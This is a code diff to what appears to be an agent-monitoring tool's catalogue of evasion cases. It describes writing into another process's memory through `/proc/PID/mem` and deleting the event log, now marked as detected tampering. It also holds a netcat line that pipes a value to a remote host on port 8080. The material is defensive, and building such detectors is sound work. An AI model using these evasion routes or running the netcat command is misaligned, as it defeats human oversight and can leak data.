@@ -23,9 +23,9 @@ const told: Open = {
 }
 
 const writtenMemory: Open = {
-  result: 'not-held',
-  why: 'opening `/proc/PID/mem` for reading is the detection `process-memory-read`; opened for writing it is a `file.write` event of a sensitive place and no detection. Who writes there makes the agent do anything',
-  advice: 'run the command with `--user`',
+  result: 'told',
+  why: 'root may write into the memory of any process; an open for writing of the agent’s is `agent-tampered` (critical), of another process’s `process-memory-read` (high)',
+  advice: 'run the command with `--user`; tier T2 prevents it',
 }
 const traced: Open = {
   result: 'told',
@@ -33,9 +33,9 @@ const traced: Open = {
   advice: 'run the command with `--user`; tier T2 prevents it',
 }
 const removed: Open = {
-  result: 'not-held',
-  why: '`report.json`, `summary.md` and `report.html` are written whole from what the agent knows; `events.ndjson` is gone, and nothing says so',
-  advice: 'run the command with `--user`; judge by `report.json` and the exit status',
+  result: 'told',
+  why: '`report.json`, `summary.md` and `report.html` are written whole from what the agent knows; that `events.ndjson` was removed, replaced or changed in size is `agent-tampered` (critical), and the exit status is 125 in fail-mode closed',
+  advice: 'run the command with `--user`, and `--out` a folder that it cannot write to',
 }
 
 const twin = `echo "$T" | nc -N -w 3 $D4 8080`
